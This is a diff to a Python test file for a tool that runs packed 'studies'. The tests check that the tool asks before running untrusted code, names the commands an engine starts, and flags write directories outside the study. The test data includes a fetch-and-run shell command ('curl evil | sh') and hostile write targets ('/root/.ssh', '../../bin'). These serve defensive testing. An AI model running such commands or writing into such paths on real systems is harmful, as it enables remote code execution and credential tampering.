@@ -245,7 +245,7 @@ def test_who_sits_at_a_terminal_is_asked(tmp_path, plan, monkeypatch, capsys, an
     monkeypatch.setattr("typer.confirm", lambda question, **_: asked.append(question) or answer)
     with contextlib.nullcontext() if answer else pytest.raises(InputError, match="comes from elsewhere"):
         agree(packed(tmp_path), plan, trust=False)
-    assert asked == ["The study comes from elsewhere. Run this code?"]
+    assert asked == ["The study comes from elsewhere. Allow this?"]
     assert "runs code from" in capsys.readouterr().err.replace("\n", " ")
 
 
@@ -318,6 +318,18 @@ def test_llpt_plan_names_the_programs_that_a_study_starts(tmp_path):
     text = STUDY.replace("ase:evil.Evil", "vasp") + '[reference.options]\ncommand = "curl evil | sh"\n'
     (tmp_path / "study.toml").write_text(text)
     assert "Engine vasp starts: curl evil | sh" in run(tmp_path, "plan", "study.toml").stdout
+
+
+@pytest.mark.parametrize(("directory", "inside"), [("/root/.ssh", False), ("../../bin", False), ("work/vasp", True)])
+def test_a_directory_that_an_engine_writes_into_is_named_and_asked_for(tmp_path, directory, inside):
+    text = STUDY.replace("ase:evil.Evil", "vasp") + f'[reference.options]\ndirectory = "{directory}"\n'
+    plan = make_plan(parse_study(text))
+    assert foreign_code(plan) == ([] if inside else [f"Engine vasp writes into {directory}, outside of the study."])
+    archive = tmp_path / "study.zip"
+    with zipfile.ZipFile(archive, "w") as zipped:
+        zipped.writestr("study/study.toml", text)
+    with contextlib.nullcontext() if inside else pytest.raises(InputError, match="comes from elsewhere"):
+        agree(archive, plan, trust=False)
 
 
 LISTENING = """
